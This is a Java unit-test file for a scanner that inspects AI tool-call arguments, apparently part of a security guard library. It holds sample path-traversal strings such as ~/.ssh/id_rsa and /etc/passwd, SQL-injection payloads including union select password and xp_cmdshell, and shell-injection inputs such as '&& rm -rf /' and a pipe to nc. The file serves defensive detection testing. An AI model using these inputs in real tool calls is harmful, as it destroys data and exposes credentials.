package dev.aisecurity.guard.tool;

import dev.aisecurity.guard.Finding;
import dev.aisecurity.guard.GuardText;
import dev.aisecurity.guard.ScanContext;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class ToolArgumentScannerTests {

	private final ToolArgumentScanner scanner = new ToolArgumentScanner(200, true);

	private java.util.List<String> codes(String json) {
		return this.scanner.scan(GuardText.of(json), ScanContext.input()).stream().map(Finding::code).toList();
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"p\":\"../secret\"}", "{\"p\":\"a/../../b\"}", "{\"p\":\"..\\\\..\\\\windows\"}",
			"{\"p\":\"%2e%2e%2fetc\"}", "{\"p\":\"%252e%252e/x\"}", "{\"p\":\"\\u002e\\u002e/x\"}",
			"{\"p\":\"/etc/passwd\"}", "{\"p\":\"~/.ssh/id_rsa\"}", "{\"p\":\"file:///etc/hosts\"}" })
	void pathTraversal(String json) {
		assertThat(codes(json)).contains(ToolArgumentScanner.PATH_TRAVERSAL);
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"q\":\"x' or 1=1\"}", "{\"q\":\"admin'--\"}", "{\"q\":\"1; drop table users\"}",
			"{\"q\":\"a' union select password from users\"}", "{\"q\":\"x'; exec xp_cmdshell 'dir'\"}",
			"{\"q\":\"name /* comment */\"}" })
	void sqlInjection(String json) {
		assertThat(codes(json)).contains(ToolArgumentScanner.SQL_INJECTION);
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"name\":\"Siobhan O'Brien\"}", "{\"path\":\"docs/guide.md\"}",
			"{\"q\":\"the customers' orders and returns\"}", "{\"version\":\"1.2.3\"}", "{\"text\":\"Wait... what?\"}",
			"{\"q\":\"rock 'n' roll\"}" })
	void benignArguments(String json) {
		assertThat(codes(json)).doesNotContain(ToolArgumentScanner.PATH_TRAVERSAL, ToolArgumentScanner.SQL_INJECTION);
	}

	@ParameterizedTest
	@ValueSource(
			strings = { "{\"cmd\":\"ls $(whoami)\"}", "{\"cmd\":\"a && rm -rf /\"}", "{\"cmd\":\"cat x | nc h 1\"}" })
	void shellMetaCharactersWhenEnabled(String json) {
		assertThat(codes(json)).contains(ToolArgumentScanner.SHELL_INJECTION);
	}

	@org.junit.jupiter.api.Test
	void oversizedArguments() {
		assertThat(codes("{\"p\":\"" + "a".repeat(300) + "\"}"))
			.containsExactly(ToolArgumentScanner.ARGUMENT_TOO_LARGE);
	}

}
